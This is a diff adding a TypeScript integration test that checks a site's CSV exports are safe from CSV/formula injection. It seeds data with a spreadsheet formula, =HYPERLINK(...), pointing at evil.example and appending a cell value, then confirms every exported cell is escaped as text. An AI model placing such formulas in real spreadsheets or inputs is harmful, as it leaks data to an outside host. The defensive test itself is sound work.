@@ -1,0 +1,65 @@
+import { earningsCsvQuerySchema } from '@astaguide/contracts/earnings';
+import { reportDimensions } from '@astaguide/contracts/analytics-report';
+import { funnelDimensions } from '@astaguide/contracts/visit-funnel';
+import { startSite, type RunningSite } from '../../running-site';
+import { ApiClient, until } from '../api-client';
+import { PRODUCT } from '../owner-input';
+
+const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"open")`;
+
+let site: RunningSite;
+let owner: ApiClient;
+
+beforeAll(async () => {
+  site = await startSite();
+  owner = new ApiClient(site.url);
+  await owner.signIn();
+  const { body: product } = await owner.post('/api/products', { ...PRODUCT, name: FORMULA });
+  const eventData = {
+    ...{ page: FORMULA, slot: FORMULA, referrer: 'https://news.example/' },
+    ...{ utmSource: FORMULA, utmMedium: FORMULA, utmCampaign: FORMULA },
+  };
+  for (const eventType of ['page_view', 'affiliate_click']) {
+    expect(await new ApiClient(site.url).track({ eventType, eventData, productId: product.id })).toBe(202);
+  }
+  await until(
+    () => owner.get('/api/analytics/summary'),
+    ({ body }) => body.totalClicks === 1,
+  );
+}, 100_000);
+
+afterAll(() => site.stop(), 30_000);
+
+/** The values of a CSV's cells, as a spreadsheet reads them. */
+const cellsOf = (csv: string) =>
+  [...csv.matchAll(/"((?:[^"]|"")*)"|([^,\r\n]+)/g)].map(([, quoted, bare]) =>
+    (quoted ?? bare!).replaceAll('""', '"'),
+  );
+
+const exports = [
+  ...['series', ...reportDimensions].map((table) => `/api/analytics/report.csv?table=${table}`),
+  '/api/analytics/attribution.csv',
+  ...['total', ...funnelDimensions].map((table) => `/api/analytics/funnel.csv?table=${table}`),
+  ...earningsCsvQuerySchema.shape.table.options.map((table) => `/api/earnings.csv?table=${table}`),
+];
+
+test.each(exports)('%s has no cell that a spreadsheet would run', async (path) => {
+  const { status, text, headers } = await owner.get(path);
+  expect([status, headers.get('content-type')]).toEqual([200, expect.stringMatching(/^text\/csv/)]);
+  expect(headers.get('content-disposition')).toMatch(/^attachment/);
+  const cells = cellsOf(text);
+  expect(cells.length).toBeGreaterThan(2);
+  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
+});
+
+test('the formulas are in them, as texts', async () => {
+  const texts = await Promise.all(exports.map(async (path) => (await owner.get(path)).text));
+  const holding = exports.filter((_, index) => cellsOf(texts[index]!).some((cell) => cell.startsWith(`'=`)));
+  expect(holding).toEqual(
+    expect.arrayContaining([
+      '/api/analytics/report.csv?table=product',
+      '/api/analytics/report.csv?table=campaign',
+      '/api/earnings.csv?table=product',
+    ]),
+  );
+});
